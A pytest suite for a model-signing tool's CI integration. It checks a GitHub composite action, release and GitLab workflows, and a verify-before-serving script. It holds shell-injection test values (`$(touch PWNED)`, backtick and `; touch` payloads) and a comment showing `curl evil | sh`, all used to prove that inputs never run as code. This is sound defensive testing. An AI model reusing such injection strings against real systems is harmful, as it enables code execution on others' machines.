"""The CI integration: action.yml, the release workflows and the verify-before-serving example.

Static checks parse the YAML and look for what each file needs (permissions, ID tokens,
inputs reaching scripts only through ``env:``). Then the scripts run for real:

- the action's ``run:`` steps are executed one after another with bash, as the runner
  would run them (``bash --noprofile --norc -eo pipefail``), with the step's ``env:``
  evaluated from the inputs, a fake ``$GITHUB_OUTPUT`` per step whose values feed the
  later steps' ``${{ steps.<id>.outputs.<name> }}``, and the runner's variables. The
  ``actions/setup-python`` step is skipped; ``python3 -m venv`` and ``pip install`` in
  the install step are stubbed (no network) so that the "virtualenv" runs this
  checkout's modelsign. Keyless signing uses the local Sigstore stand-in: a GitHub
  Actions token in ``MODELSIGN_IDENTITY_TOKEN``, ``--trust-config`` through
  ``extra-args`` and ``--trusted-root`` through ``verify-args`` (or the policy);
- the GitLab job's script lines run with bash and GitLab's variables, its ID token in
  ``SIGSTORE_ID_TOKEN`` (a stand-in token), with a ``modelsign`` shim on PATH that adds
  only the stand-in's trust configuration and root;
- ``serve.py`` and ``run.sh`` run against a signed, a tampered and a padded model.
"""

from __future__ import annotations

import os
import re
import shutil
import stat
import subprocess
import sys
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

import modelsign
from modelsign._internal.signature import keys
from modelsign._internal.signature.sigstore import SigstoreVerifier, load_trusted_root
from tests.helpers.examples import build_example
from tests.helpers.paths import ROOT
from tests.helpers.signing import manifest_of, shared_key
from tests.sigstore_standin import GITHUB_ISSUER, SigstoreStandin

ACTION = ROOT / "action.yml"
RELEASE = ROOT / "examples" / "github-actions" / "release.yml"
RELEASE_POLICY = ROOT / "examples" / "github-actions" / "policy.yaml"
GITLAB = ROOT / "examples" / "gitlab-ci" / ".gitlab-ci.yml"
SERVING = ROOT / "examples" / "verify-before-serving"

REPO = "acme/models"
REF = "refs/tags/v1.0"
WORKFLOW_REF = f"{REPO}/.github/workflows/release.yml@{REF}"
IDENTITY = f"https://github.com/{WORKFLOW_REF}"
DIGEST_LINE = re.compile(r"^manifest digest: (sha256:[0-9a-f]{64})$", re.MULTILINE)
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")

# Anything in this process's environment that could reach the network, find an identity
# token by itself or make a script think it runs in CI.
_AMBIENT_PREFIXES = ("GITHUB_", "RUNNER_", "ACTIONS_", "CI_", "INPUT_")
_AMBIENT = {
    "CI",
    "GITHUB_ACTIONS",
    "GITLAB_CI",
    "BUILDKITE",
    "CIRCLECI",
    "GOOGLE_SERVICE_ACCOUNT_NAME",
    "MODELSIGN_IDENTITY_TOKEN",
    "SIGSTORE_ID_TOKEN",
    "MODELSIGN_KEY_PASSWORD",
}


def clean_env(**extra: str) -> dict[str, str]:
    env = {
        k: v
        for k, v in os.environ.items()
        if "proxy" not in k.lower() and k not in _AMBIENT and not k.startswith(_AMBIENT_PREFIXES)
    }
    return env | extra


# -- YAML --------------------------------------------------------------------------------


class _StrictLoader(yaml.SafeLoader):
    """Refuses duplicate keys, which GitHub and GitLab reject and PyYAML would merge."""


def _no_duplicates(loader: _StrictLoader, node: yaml.MappingNode, deep: bool = False) -> Any:
    keys = [loader.construct_object(k, deep=deep) for k, _ in node.value]
    dup = {k for k in keys if keys.count(k) > 1}
    if dup:
        raise yaml.constructor.ConstructorError(
            None, None, f"duplicate keys {dup}", node.start_mark
        )
    return loader.construct_mapping(node, deep=deep)


_StrictLoader.add_constructor(yaml.resolver.BaseResolver.DEFAULT_MAPPING_TAG, _no_duplicates)


def load_yaml(path: Path) -> Any:
    return yaml.load(path.read_text(encoding="utf-8"), Loader=_StrictLoader)


def workflow_on(workflow: dict[Any, Any]) -> Any:
    # YAML 1.1 reads a bare `on` key as the boolean True.
    return workflow["on"] if "on" in workflow else workflow[True]


@pytest.fixture(scope="module")
def action() -> dict[str, Any]:
    data: dict[str, Any] = load_yaml(ACTION)
    return data


# -- static checks -------------------------------------------------------------------------

INPUT_DEFAULTS = {
    "signature-path": "",
    "signing-method": "sigstore",
    "private-key": "",
    "key-password": "",
    "public-key": "",
    "policy": "",
    "identity": "",
    "issuer": GITHUB_ISSUER,
    "source": "",
    "extra-args": "",
    "verify-args": "",
    "modelsign-version": "",
    "python-version": "3.12",
}


def test_action_metadata(action: dict[str, Any]) -> None:
    assert action["runs"]["using"] == "composite"
    assert action["name"] and action["description"]
    inputs = action["inputs"]
    assert inputs["model-path"]["required"] is True
    assert "default" not in inputs["model-path"]
    assert set(inputs) == {"model-path", *INPUT_DEFAULTS}
    for name, default in INPUT_DEFAULTS.items():
        assert inputs[name]["required"] is False, name
        assert inputs[name]["default"] == default, name
    for name, spec in inputs.items():
        assert spec["description"].strip(), name
    outputs = action["outputs"]
    assert outputs["signature-path"]["value"] == "${{ steps.sign.outputs.signature-path }}"
    assert outputs["manifest-digest"]["value"] == "${{ steps.sign.outputs.manifest-digest }}"
    assert outputs["claims-path"]["value"] == "${{ steps.sign.outputs.claims-path }}"
    sign = next(s for s in action["runs"]["steps"] if s.get("id") == "sign")
    for name in outputs:
        assert f'echo "{name}=' in sign["run"], name


def test_action_steps_take_inputs_only_through_env(action: dict[str, Any]) -> None:
    steps = action["runs"]["steps"]
    setup = steps[0]
    assert setup["uses"].startswith("actions/setup-python@v")
    assert setup["with"]["python-version"] == "${{ inputs.python-version }}"
    used: set[str] = set()
    for step in steps:
        for value in [*step.get("env", {}).values(), *step.get("with", {}).values()]:
            used.update(re.findall(r"inputs\.([a-z-]+)", str(value)))
        used.update(re.findall(r"inputs\.([a-z-]+)", step.get("if", "")))
        if "run" not in step:
            continue
        assert step["shell"] == "bash", step["name"]
        assert step["run"].startswith("set -euo pipefail\n"), step["name"]
        # No expression is pasted into a script: an input holding `"; curl evil | sh; "`
        # would run. Inputs arrive as environment variables.
        assert "${{" not in step["run"], step["name"]
        assert "if" not in step, "the test harness runs every run: step"
        for value in step.get("env", {}).values():
            assert EXPRESSION.fullmatch(str(value)), f"{step['name']}: {value!r}"
    assert used <= set(action["inputs"]), used - set(action["inputs"])
    assert used == set(action["inputs"]), f"inputs never used: {set(action['inputs']) - used}"
    ids = [s.get("id") for s in steps]
    assert ids.index("install") < ids.index("sign") < ids.index("verify")


def test_release_workflow() -> None:
    wf = load_yaml(RELEASE)
    on = workflow_on(wf)
    assert on["release"]["types"] == ["published"]
    assert on["push"]["tags"] == ["v*"]
    assert wf["permissions"] == {}
    sign = wf["jobs"]["sign"]
    assert sign["permissions"] == {"contents": "write", "id-token": "write"}
    used = [s for s in sign["steps"] if s.get("uses") == "./"]
    assert len(used) == 1
    with_ = used[0]["with"]
    assert with_["model-path"] == "build/tiny-model"
    assert set(with_) <= set(load_yaml(ACTION)["inputs"])
    modelsign.Policy.load(str(ROOT / with_["policy"]))  # the policy it checks against is valid
    assert "acme/modelsign@v1" in RELEASE.read_text()
    # The release assets are uploaded and verified again from the release, by the policy.
    scripts = [s["run"] for job in wf["jobs"].values() for s in job["steps"] if "run" in s]
    assert any("gh release upload" in s for s in scripts)
    verify = wf["jobs"]["verify"]
    assert verify["needs"] == "sign"
    assert verify["permissions"] == {"contents": "read"}
    assert any("modelsign verify" in s and "--policy" in s for s in scripts)
    for job in wf["jobs"].values():
        for step in job["steps"]:
            assert "${{" not in step.get("run", ""), step.get("name")


def test_release_policy_accepts_exactly_the_release_workflow() -> None:
    policy = load_yaml(RELEASE_POLICY)
    (signer,) = policy["signers"]["sigstore"]
    assert signer["issuer"] == GITHUB_ISSUER
    assert signer["github_repository"] == REPO
    assert signer["github_workflow"] == ".github/workflows/release.yml"
    regex = re.compile(signer["identity_regex"])
    assert regex.fullmatch(IDENTITY)  # what release.yml's job is certified as, on tag v1.0
    for other in (
        f"https://github.com/{REPO}/.github/workflows/release.yml@refs/heads/main",
        f"https://github.com/{REPO}/.github/workflows/nightly.yml@{REF}",
        f"https://github.com/evil/models/.github/workflows/release.yml@{REF}",
    ):
        assert not regex.fullmatch(other), other


def test_gitlab_job() -> None:
    ci = load_yaml(GITLAB)
    job = ci["sign-model"]
    assert job["id_tokens"] == {"SIGSTORE_ID_TOKEN": {"aud": "sigstore"}}
    script = "\n".join(job["script"])
    assert re.search(r"^modelsign sign .*--sigstore", script, re.MULTILINE)
    assert "modelsign verify" in script and "--identity" in script and "--issuer" in script
    assert "build/tiny-model/" in job["artifacts"]["paths"]
    assert job["stage"] in ci["stages"]


# -- running the action --------------------------------------------------------------------


def _write_exec(path: Path, text: str) -> Path:
    path.write_text(text)
    path.chmod(path.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return path


def stub_bin(tmp: Path) -> Path:
    """``python3`` whose ``-m venv DIR`` makes a fake virtualenv over this checkout."""
    bin_dir = tmp / "stub-bin"
    bin_dir.mkdir()
    py = sys.executable
    venv_python = f"""#!/bin/bash
if [ "$1 $2" = "-m pip" ]; then echo "$*" >> "$PIP_LOG"; exit 0; fi
exec "{py}" "$@"
"""
    venv_modelsign = f'#!/bin/bash\nexec "{py}" -m modelsign "$@"\n'
    _write_exec(
        bin_dir / "python3",
        f"""#!/bin/bash
if [ "$1 $2" = "-m venv" ]; then
  mkdir -p "$3/bin"
  cat > "$3/bin/python" <<'EOF'
{venv_python}EOF
  cat > "$3/bin/modelsign" <<'EOF'
{venv_modelsign}EOF
  chmod +x "$3/bin/python" "$3/bin/modelsign"
  exit 0
fi
exec "{py}" "$@"
""",
    )
    return bin_dir


@dataclass
class StepRun:
    id: str | None
    returncode: int
    stdout: str
    stderr: str
    outputs: dict[str, str] = field(default_factory=dict)
    output_file: Path | None = None

    @property
    def log(self) -> str:
        return self.stdout + self.stderr


@dataclass
class ActionRun:
    steps: list[StepRun]
    outputs: dict[str, str]
    summary: str

    @property
    def ok(self) -> bool:
        return all(s.returncode == 0 for s in self.steps)

    def step(self, step_id: str) -> StepRun:
        return next(s for s in self.steps if s.id == step_id)

    @property
    def log(self) -> str:
        return "\n".join(f"--- {s.id}: exit {s.returncode}\n{s.log}" for s in self.steps)


def parse_github_output(text: str) -> dict[str, str]:
    """``name=value`` lines and ``name<<DELIM`` blocks, as the runner reads them."""
    out: dict[str, str] = {}
    lines = iter(text.splitlines())
    for line in lines:
        if "<<" in line and ("=" not in line or line.index("<<") < line.index("=")):
            name, delim = line.split("<<", 1)
            out[name] = "\n".join(iter(lambda: next(lines), delim))
        elif line:
            name, value = line.split("=", 1)
            out[name] = value
    return out


class ActionRunner:
    """Runs action.yml's ``run:`` steps the way a GitHub runner runs a composite action."""

    def __init__(self, workspace: Path, github: Mapping[str, str], env: Mapping[str, str]):
        self.workspace = workspace
        self.temp = workspace.parent / "runner-temp"
        self.temp.mkdir()
        self.github = {"action_path": str(ROOT), "server_url": "https://github.com", **github}
        bin_dir = stub_bin(workspace.parent)
        self.pip_log = workspace.parent / "pip.log"
        self.summary = workspace.parent / "step-summary.md"
        self.env = clean_env(
            PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
            RUNNER_TEMP=str(self.temp),
            GITHUB_WORKSPACE=str(workspace),
            GITHUB_ACTION_PATH=str(ROOT),
            GITHUB_STEP_SUMMARY=str(self.summary),
            PIP_LOG=str(self.pip_log),
            **env,
        )

    def run(self, inputs: Mapping[str, str]) -> ActionRun:
        spec = load_yaml(ACTION)
        declared = spec["inputs"]
        unknown = set(inputs) - set(declared)
        assert not unknown, unknown
        values = {name: str(s.get("default", "")) for name, s in declared.items()} | dict(inputs)
        for name, s in declared.items():
            if s.get("required"):
                assert values.get(name), f"required input {name} not given"
        steps: dict[str, dict[str, str]] = {}
        runs: list[StepRun] = []

        def evaluate(text: str) -> str:
            def one(m: re.Match[str]) -> str:
                parts = m.group(1).split(".")
                if parts[0] == "inputs" and len(parts) == 2:
                    return values[parts[1]]
                if parts[0] == "github" and len(parts) == 2:
                    return self.github.get(parts[1], "")
                if parts[0] == "runner" and parts[1:] == ["temp"]:
                    return str(self.temp)
                if parts[0] == "steps" and len(parts) == 4 and parts[2] == "outputs":
                    return steps.get(parts[1], {}).get(parts[3], "")
                raise AssertionError(f"the harness does not know {m.group(0)}")

            return EXPRESSION.sub(one, text)

        for i, step in enumerate(spec["runs"]["steps"]):
            if "run" not in step:
                continue  # actions/setup-python: this interpreter stands in for it
            output = self.workspace.parent / f"github-output-{i}"
            output.write_text("")
            script = self.workspace.parent / f"step-{i}.sh"
            script.write_text(step["run"])
            env = self.env | {k: evaluate(str(v)) for k, v in step.get("env", {}).items()}
            env["GITHUB_OUTPUT"] = str(output)
            proc = subprocess.run(
                ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
                cwd=self.workspace,
                env=env,
                stdin=subprocess.DEVNULL,
                capture_output=True,
                text=True,
                timeout=120,
                check=False,
            )
            outs = parse_github_output(output.read_text())
            if step.get("id"):
                steps[step["id"]] = outs
            runs.append(
                StepRun(step.get("id"), proc.returncode, proc.stdout, proc.stderr, outs, output)
            )
            if proc.returncode != 0:
                break  # a failed step fails the action
        outputs = {k: evaluate(v["value"]) for k, v in spec["outputs"].items()}
        summary = self.summary.read_text() if self.summary.exists() else ""
        return ActionRun(runs, outputs, summary)


@pytest.fixture(scope="module")
def built_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    model, _ = build_example(tmp_path_factory.mktemp("built"))
    return model


@pytest.fixture
def workspace(tmp_path: Path, built_model: Path) -> Path:
    ws = tmp_path / "workspace"
    shutil.copytree(built_model, ws / "build" / "tiny-model")
    return ws


def github_env(standin: SigstoreStandin, **claims: str) -> dict[str, str]:
    """What the runner sets in a release job, and the job's OIDC token (from the stand-in)."""
    token = standin.token(github={"repository": REPO, "ref": REF, **claims})
    return {
        "GITHUB_ACTIONS": "true",
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_REF": REF,
        "GITHUB_SHA": "a" * 40,
        "GITHUB_WORKFLOW_REF": WORKFLOW_REF,
        "GITHUB_RUN_ID": "1000",
        "GITHUB_SERVER_URL": "https://github.com",
        "MODELSIGN_IDENTITY_TOKEN": token,
    }


def keygen(prefix: Path, password: str | None = None) -> None:
    """What ``modelsign keygen -o PREFIX`` writes, without a process start (one key per name)."""
    key = shared_key(prefix.name)
    keys.write_keypair(str(prefix), key, password=password.encode() if password else None)


def payload_manifest(sig: Path) -> dict[str, Any]:
    return manifest_of(sig)


@pytest.mark.slow
def test_action_keyless_signs_and_verifies_the_workflow_identity(
    workspace: Path, standin: SigstoreStandin
) -> None:
    runner = ActionRunner(workspace, {"workflow_ref": WORKFLOW_REF}, github_env(standin))
    run = runner.run(
        {
            "model-path": "build/tiny-model",
            "extra-args": f"--trust-config {standin.trust_config_path}",
            "verify-args": f"--trusted-root {standin.trusted_root_path}",
        }
    )
    assert run.ok, run.log
    sig = workspace / "build" / "tiny-model" / "model.sig"
    assert run.outputs["signature-path"] == "build/tiny-model/model.sig"
    assert run.outputs["claims-path"] == "build/tiny-model/claims.jsonl"
    assert sig.is_file()
    # pip installed the action's own checkout into the action's virtualenv.
    assert runner.pip_log.read_text().split()[-1] == str(ROOT)
    # The fake $GITHUB_OUTPUT got the digest that modelsign printed, and verify agreed.
    digest = run.outputs["manifest-digest"]
    output_file = run.step("sign").output_file
    assert output_file is not None
    assert f"manifest-digest={digest}\n" in output_file.read_text()
    assert DIGEST_LINE.findall(run.step("sign").log) == [digest]
    assert f"--identity {IDENTITY} --issuer {GITHUB_ISSUER}" in run.step("verify").log
    assert f"signed by {IDENTITY} via {GITHUB_ISSUER}" in run.step("verify").log
    assert "### modelsign" in run.summary and digest in run.summary
    # Independently: the signature is the job's identity over this model.
    verifier = SigstoreVerifier(
        load_trusted_root(str(standin.trusted_root_path), offline=True),
        issuer=GITHUB_ISSUER,
        identity=IDENTITY,
    )
    result = modelsign.verify(workspace / "build" / "tiny-model", verifier=verifier)
    assert result.manifest_digest == digest
    builder = payload_manifest(sig)["provenance"]["builder"]
    assert builder["kind"] == "github-actions"
    assert builder["fields"]["GITHUB_WORKFLOW_REF"] == WORKFLOW_REF
    # The private temp folder of the signing step is gone.
    assert [p.name for p in runner.temp.iterdir()] == ["modelsign-venv"]


@pytest.mark.slow
def test_action_keyless_with_a_policy(workspace: Path, standin: SigstoreStandin) -> None:
    policy = load_yaml(RELEASE_POLICY)
    policy["signers"]["trusted_root"] = str(standin.trusted_root_path)
    policy_file = workspace / "policy.yaml"
    policy_file.write_text(yaml.safe_dump(policy))
    runner = ActionRunner(workspace, {"workflow_ref": WORKFLOW_REF}, github_env(standin))
    run = runner.run(
        {
            "model-path": "build/tiny-model/",
            "policy": "policy.yaml",
            "extra-args": f"--trust-config {standin.trust_config_path}",
        }
    )
    assert run.ok, run.log
    log = run.step("verify").log
    assert "--policy policy.yaml" in log and "--identity" not in log
    for rule in ("signers", "licences", "formats", "coverage", "freshness"):
        assert re.search(rf"^  {rule} +pass", log, re.MULTILINE), rule


@pytest.mark.slow
def test_action_fails_when_the_signature_is_not_the_workflows(
    workspace: Path, standin: SigstoreStandin
) -> None:
    # The token (hence the certificate) comes from another workflow than the job claims.
    other = f"{REPO}/.github/workflows/nightly.yml@refs/heads/main"
    runner = ActionRunner(
        workspace, {"workflow_ref": WORKFLOW_REF}, github_env(standin, workflow_ref=other)
    )
    run = runner.run(
        {
            "model-path": "build/tiny-model",
            "extra-args": f"--trust-config {standin.trust_config_path}",
            "verify-args": f"--trusted-root {standin.trusted_root_path}",
        }
    )
    assert not run.ok
    assert run.steps[-1].id == "verify" and run.steps[-1].returncode == 1
    assert "SIGSTORE_VERIFICATION_FAILED" in run.steps[-1].log
    assert "::error title=modelsign verify::the new signature did not verify" in run.steps[-1].log


@pytest.mark.slow
def test_action_keyless_without_id_token_permission(
    workspace: Path, standin: SigstoreStandin
) -> None:
    env = github_env(standin)
    del env["MODELSIGN_IDENTITY_TOKEN"]  # and no ACTIONS_ID_TOKEN_REQUEST_URL either
    run = ActionRunner(workspace, {"workflow_ref": WORKFLOW_REF}, env).run(
        {
            "model-path": "build/tiny-model",
            "extra-args": f"--trust-config {standin.trust_config_path}",
        }
    )
    assert run.steps[-1].id == "sign" and run.steps[-1].returncode == 1
    assert "error[NO_IDENTITY_TOKEN]" in run.steps[-1].log
    assert "id-token: write" in run.steps[-1].log
    assert not (workspace / "build" / "tiny-model" / "model.sig").exists()


@pytest.mark.slow
def test_action_with_a_key_and_hostile_inputs(tmp_path: Path, workspace: Path) -> None:
    password = "pass word $(touch PWNED-password)"
    keys_dir = tmp_path / "keys"
    keys_dir.mkdir()
    keygen(keys_dir / "release", password)
    # A model folder whose name would run code if it were pasted into a script.
    hostile = 'odd "model" $(touch PWNED) `touch PWNED2`; echo'
    (workspace / "build" / "tiny-model").rename(workspace / "build" / hostile)
    (workspace / "build" / hostile / "notes.log").write_text("unsigned and ignored")
    (workspace / "dist").mkdir()
    runner = ActionRunner(workspace, {}, {})
    run = runner.run(
        {
            "model-path": f"build/{hostile}",
            "signing-method": "key",
            "private-key": (keys_dir / "release.key").read_text(),
            "key-password": password,
            "signature-path": "dist/$(touch PWNED3).sig",
            "source": "acme/tiny-model@v1.0",
            "extra-args": "--ignore '*.log' --tensor-hash sha256",
            "modelsign-version": "modelsign-oms==0.1.0; touch PWNED4",
        }
    )
    assert run.ok, run.log
    assert not list(workspace.parent.rglob("PWNED*")), "an input ran as shell code"
    sig = workspace / "dist" / "$(touch PWNED3).sig"
    assert run.outputs["signature-path"] == "dist/$(touch PWNED3).sig" and sig.is_file()
    assert run.outputs["claims-path"] == "dist/$(touch PWNED3).claims.jsonl"
    manifest = payload_manifest(sig)
    assert manifest["provenance"]["source"]["repository"] == "acme/tiny-model"
    assert manifest["hashing"]["tensor"] == "sha256"
    assert "--key" in run.step("verify").log and "--identity" not in run.step("verify").log
    pip_args = runner.pip_log.read_text().splitlines()[-1]
    assert pip_args.endswith("modelsign-oms==0.1.0; touch PWNED4")
    # The key file lived in a private folder that is gone; only the public key remains.
    public, venv = sorted(runner.temp.iterdir())
    assert re.fullmatch(r"modelsign-public\.\w{8}", public.name) and venv.name == "modelsign-venv"
    assert public.read_bytes() == (keys_dir / "release.pub").read_bytes()
    result = modelsign.verify(
        workspace / "build" / hostile,
        verifier=modelsign.KeyVerifier.from_file(str(keys_dir / "release.pub")),
        signature=sig,
    )
    assert result.manifest_digest == run.outputs["manifest-digest"]


@pytest.mark.slow
def test_action_key_checks_against_the_given_public_key(tmp_path: Path, workspace: Path) -> None:
    keygen(tmp_path / "release")
    keygen(tmp_path / "other")
    run = ActionRunner(workspace, {}, {}).run(
        {
            "model-path": "build/tiny-model",
            "signing-method": "key",
            "private-key": (tmp_path / "release.key").read_text(),
            "public-key": (tmp_path / "other.pub").read_text(),
        }
    )
    assert run.steps[-1].id == "verify" and run.steps[-1].returncode == 1
    assert "KEY_HINT_MISMATCH" in run.steps[-1].log


@pytest.mark.slow
@pytest.mark.parametrize(
    ("inputs", "message"),
    [
        ({"signing-method": "key"}, "signing-method key needs the private-key input"),
        ({"signing-method": "gpg"}, "signing-method must be sigstore or key, not gpg"),
        ({"model-path": "no/such/model"}, "model-path no/such/model does not exist"),
        ({"extra-args": "--ignore 'unbalanced"}, "cannot split extra-args"),
    ],
)
def test_action_refuses_bad_inputs(workspace: Path, inputs: dict[str, str], message: str) -> None:
    run = ActionRunner(workspace, {}, {}).run({"model-path": "build/tiny-model", **inputs})
    assert run.steps[-1].id == "sign" and run.steps[-1].returncode == 1
    assert f"::error title=modelsign sign::{message}" in run.steps[-1].log


# -- running the GitLab job ----------------------------------------------------------------


@pytest.mark.slow
def test_gitlab_job_script_signs_and_verifies(
    tmp_path: Path, standin: SigstoreStandin, built_model: Path
) -> None:
    ci = load_yaml(GITLAB)
    job = ci["sign-model"]
    project = tmp_path / "project"
    (project / "examples").mkdir(parents=True)
    shutil.copy(ROOT / "examples" / "build_tiny_model.py", project / "examples")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    py = sys.executable
    _write_exec(bin_dir / "pip", '#!/bin/bash\necho "$*" >> "$PIP_LOG"\n')
    _write_exec(bin_dir / "python", f'#!/bin/bash\nexec "{py}" "$@"\n')
    # Only the trust anchors of the stand-in are added to what the job runs.
    _write_exec(
        bin_dir / "modelsign",
        f"""#!/bin/bash
cmd="$1"; shift
case "$cmd" in
  sign) exec "{py}" -m modelsign sign "$@" --trust-config "$STANDIN_TRUST_CONFIG" ;;
  verify) exec "{py}" -m modelsign verify "$@" --trusted-root "$STANDIN_TRUSTED_ROOT" ;;
esac
exec "{py}" -m modelsign "$cmd" "$@"
""",
    )
    server, path, tag = "gitlab.example.test", "acme/models", "v1.0"
    identity = f"https://{server}/{path}//.gitlab-ci.yml@refs/tags/{tag}"
    env = clean_env(
        PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        PIP_LOG=str(tmp_path / "pip.log"),
        STANDIN_TRUST_CONFIG=str(standin.trust_config_path),
        STANDIN_TRUSTED_ROOT=str(standin.trusted_root_path),
        GITLAB_CI="true",
        CI="true",
        CI_SERVER_URL=f"https://{server}",
        CI_SERVER_HOST=server,
        CI_PROJECT_PATH=path,
        CI_CONFIG_PATH=".gitlab-ci.yml",
        CI_COMMIT_TAG=tag,
        CI_COMMIT_REF_NAME=tag,
        CI_COMMIT_SHA="b" * 40,
        CI_JOB_ID="77",
        SIGSTORE_ID_TOKEN=standin.token(
            gitlab={"server": server, "project_path": path, "ref": tag, "sha": "b" * 40}
        ),
    )
    env |= {k: str(v) for k, v in ci.get("variables", {}).items()}
    script = "\n".join(["set -eo pipefail", *job["script"]])  # as GitLab's bash shell runs it
    proc = subprocess.run(
        ["bash", "--noprofile", "--norc", "-c", script],
        cwd=project,
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert f"signed by {identity} via https://{server}" in proc.stdout
    digest = (project / "manifest-digest.txt").read_text().strip()
    assert re.fullmatch(r"sha256:[0-9a-f]{64}", digest)
    for artifact in job["artifacts"]["paths"]:
        assert (project / artifact).exists(), artifact
    assert (project / "build" / "tiny-model" / "model.sig").is_file()
    builder = payload_manifest(project / "build" / "tiny-model" / "model.sig")["provenance"]
    assert builder["builder"]["kind"] == "gitlab-ci"
    assert (tmp_path / "pip.log").read_text().split()[-1] == "modelsign-oms"


def test_release_build_step_makes_the_model_the_action_signs(tmp_path: Path) -> None:
    wf = load_yaml(RELEASE)
    steps = wf["jobs"]["sign"]["steps"]
    build = next(s for s in steps if s.get("name") == "Build the model")
    model_path = next(s for s in steps if s.get("uses") == "./")["with"]["model-path"]
    project = tmp_path / "project"
    (project / "examples").mkdir(parents=True)
    shutil.copy(ROOT / "examples" / "build_tiny_model.py", project / "examples")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    py = sys.executable
    _write_exec(
        bin_dir / "python",
        f'#!/bin/bash\nif [ "$1 $2" = "-m pip" ]; then exit 0; fi\nexec "{py}" "$@"\n',
    )
    proc = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", build["run"]],
        cwd=project,
        env=clean_env(PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}"),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    assert (project / model_path / "model.safetensors").is_file()


# -- verify before serving -----------------------------------------------------------------


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory, built_model: Path) -> dict[str, Path]:
    """The shipped policy with a release key beside it; a signed, a tampered, a padded model."""
    from demo import flip_tensor_byte

    tmp = tmp_path_factory.mktemp("serving")
    conf = tmp / "conf"
    conf.mkdir()
    shutil.copy(SERVING / "policy.yaml", conf / "policy.yaml")
    signed = tmp / "signed"
    shutil.copytree(built_model, signed)
    keygen(conf / "release")
    modelsign.sign(signed, signer=modelsign.KeySigner.from_files(str(conf / "release.key")))
    tampered = tmp / "tampered"
    shutil.copytree(signed, tampered)
    flip_tensor_byte(tampered / "model.safetensors", "lm_head.weight")
    padded = tmp / "padded"
    shutil.copytree(signed, padded)
    (padded / "extra_weights.bin").write_bytes(b"\x80\x04not signed")
    return {
        "policy": conf / "policy.yaml",
        "signed": signed,
        "tampered": tampered,
        "padded": padded,
    }


def serve(model: Path, policy: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(SERVING / "serve.py"), str(model), "--policy", str(policy), *extra],
        env=clean_env(),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


@pytest.mark.slow
def test_serve_py(served: dict[str, Path]) -> None:
    ok = serve(served["signed"], served["policy"])
    assert ok.returncode == 0, ok.stderr
    assert "serving signed: 21 tensors" in ok.stdout
    assert "signed by ec-p256 key " in ok.stdout
    bad = serve(served["tampered"], served["policy"])
    assert bad.returncode == 1
    assert "serving tampered" not in bad.stdout
    assert "TENSOR_MODIFIED: model.safetensors [tensor lm_head.weight]" in bad.stderr
    padded = serve(served["padded"], served["policy"])
    assert padded.returncode == 1 and "serving padded" not in padded.stdout
    assert "extra_weights.bin" in padded.stderr
    missing = serve(served["signed"], SERVING / "policy.yaml")  # no release.pub shipped there
    assert missing.returncode == 2 and "KEY_NOT_FOUND" in missing.stderr
    for memory in ("copy", "mapped"):  # the tiny model is below the size worth mapping
        again = serve(served["signed"], served["policy"], "--memory", memory)
        assert again.returncode == 0 and again.stdout == ok.stdout, again.stderr
    bad_memory = serve(served["signed"], served["policy"], "--memory", "mmap")
    assert bad_memory.returncode == 2 and "invalid choice" in bad_memory.stderr


def run_sh(model: Path, policy: Path, *server: str) -> subprocess.CompletedProcess[str]:
    shim = policy.parent / "bin"
    if not shim.exists():
        shim.mkdir()
        _write_exec(shim / "modelsign", f'#!/bin/bash\nexec "{sys.executable}" -m modelsign "$@"\n')
    return subprocess.run(
        ["bash", str(SERVING / "run.sh"), str(model), *server],
        env=clean_env(
            PATH=f"{shim}{os.pathsep}{os.environ['PATH']}",
            POLICY=str(policy),
            PYTHON=sys.executable,
        ),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


@pytest.mark.slow
def test_run_sh(served: dict[str, Path]) -> None:
    ok = run_sh(served["signed"], served["policy"])
    assert ok.returncode == 0, ok.stderr
    assert ok.stdout.startswith(f"verified {served['signed']}")
    assert "serving signed: 21 tensors" in ok.stdout
    bad = run_sh(served["tampered"], served["policy"], "echo", "SERVER STARTED")
    assert bad.returncode == 1
    assert "SERVER STARTED" not in bad.stdout and "serving tampered" not in bad.stdout
    assert "TENSOR_MODIFIED" in bad.stdout
    assert "not starting the server" in bad.stderr
    other = run_sh(served["signed"], served["policy"], "echo", "SERVER STARTED")
    assert other.returncode == 0 and other.stdout.endswith("SERVER STARTED\n")
    missing = run_sh(served["signed"], served["policy"].with_name("none.yaml"), "echo", "STARTED")
    assert missing.returncode == 2 and "STARTED" not in missing.stdout
    assert "POLICY_NOT_FOUND" in missing.stderr
